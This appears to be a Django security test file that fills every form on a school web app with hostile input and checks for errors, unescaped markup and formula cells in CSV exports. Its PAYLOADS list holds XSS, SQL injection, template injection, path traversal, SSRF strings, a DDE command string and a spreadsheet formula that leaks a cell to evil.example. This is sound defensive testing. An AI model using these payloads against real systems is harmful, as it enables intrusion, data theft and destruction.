"""Every form on every page, filled with hostile input: no server error and nothing unescaped.

The forms are found by walking the permission matrix's URLs (so a new page is covered as soon as it
has an expectation), fetching each as a role allowed to POST there, and parsing its <form> fields.
"""

import csv
import io

import pytest
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.security.forms import FREE_TEXT_TYPES, TYPED_TYPES, parse_page, same_site_path
from tests.security.test_permission_matrix import EXPECTATIONS, client_as
from tests.security.world import world_fixture, world_private_media  # noqa: F401 - fixtures

PAYLOADS = [
    "<script>alert('xss')</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ request.user.password }}{% debug %}",
    "'; DROP TABLE school_pupil; --",
    "1 OR 1=1",
    "../../../../etc/passwd",
    "Tab\tbell\x07 nul\x00 \u202eRTL override\u202c \r\nnew line",
    "A" * 10_240,
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "file:///etc/passwd",
    "http://127.0.0.1:6379/ <img src=http://127.0.0.1/>",
]
# What must never appear raw in HTML: proof the payload's markup reached the page unescaped.
RAW_MARKERS = ["<script>alert('xss')", "<img src=x onerror", "<img src=http://127.0.0.1/>"]
SKIP_ACTIONS = {"logout"}


def check_response(response, where):
    assert response.status_code < 500, f"{where}: server error {response.status_code}"
    content_type = response.get("Content-Type", "")
    body = response.content.decode(errors="replace") if not response.streaming else ""
    if "html" in content_type:
        for marker in RAW_MARKERS:
            assert marker not in body, f"{where}: unescaped {marker!r}"
        assert "Traceback" not in body, f"{where}: traceback shown"
    if "csv" in content_type:
        for row in csv.reader(io.StringIO(body)):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@")), f"{where}: formula cell {cell[:30]!r}"


def poster_for(expect):
    if expect.public and not expect.get - {"anonymous"}:
        return "anonymous"
    roles = sorted((expect.post & expect.get) - {"other_school_teacher"})
    if not roles:
        return None
    return "headteacher" if "headteacher" in roles else roles[0]


FORM_URLS = sorted(name for name, e in EXPECTATIONS.items() if e.post and e.get and name not in SKIP_ACTIONS)


def submissions(form):
    """Each payload in every free-text field (so a valid form is saved and shown again), then two
    rounds with every field, numbers, dates and choices too, each field given a different payload."""
    base = form.defaults()
    text_names = [f.name for f in form.fields if f.kind in FREE_TEXT_TYPES or f.kind == "textarea"]
    all_names = text_names + [f.name for f in form.fields if f.kind in TYPED_TYPES | {"select"}]
    text_names = [n for n in text_names if n not in {"csrfmiddlewaretoken", "next"}]
    all_names = [n for n in all_names if n not in {"csrfmiddlewaretoken", "next"}]
    if text_names:
        for payload in PAYLOADS:
            yield payload, {**base, **{name: [payload] for name in text_names}}
    for shift in (0, 1):
        if all_names:
            data = {**base, **{n: [PAYLOADS[(i + shift) % len(PAYLOADS)]] for i, n in enumerate(all_names)}}
            yield "every field", data


@pytest.mark.django_db
@pytest.mark.parametrize("url_name", FORM_URLS)
def test_hostile_input_in_every_field(url_name, world):
    expect = EXPECTATIONS[url_name]
    role = poster_for(expect)
    if role is None:
        pytest.skip("no role may both GET and POST here")
    url = reverse(url_name, kwargs=expect.kwargs(world) if expect.kwargs else None)
    client = client_as(world, role)
    page = client.get(url)
    check_response(page, f"GET {url}")
    forms, _ = parse_page(page.content.decode())
    targets = []
    for form in forms:
        action = same_site_path(url, form.action) if form.action else url
        if form.method != "post" or action is None or action.startswith(reverse("logout")):
            continue
        targets.append((form, action))
    for form, action in targets:
        for payload, data in submissions(form):
            response = client.post(action, data)
            where = f"POST {action} as {role} with {payload[:30]!r}"
            check_response(response, where)
            if response.status_code == 302 and response["Location"].startswith("/"):
                check_response(client.get(response["Location"]), f"{where} -> {response['Location']}")
    check_response(client.get(url), f"GET {url} after hostile input")


@pytest.mark.django_db
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(min_size=1, max_size=300))
def test_any_text_at_sign_in_and_code_pages(client, text):
    """Whatever is typed at the two sign-in steps: a page, never an error, never raw markup."""
    response = client.post(reverse("login"), {"username": "<zq>" + text, "password": text})
    check_response(response, "login")
    assert "<zq>" not in response.content.decode()
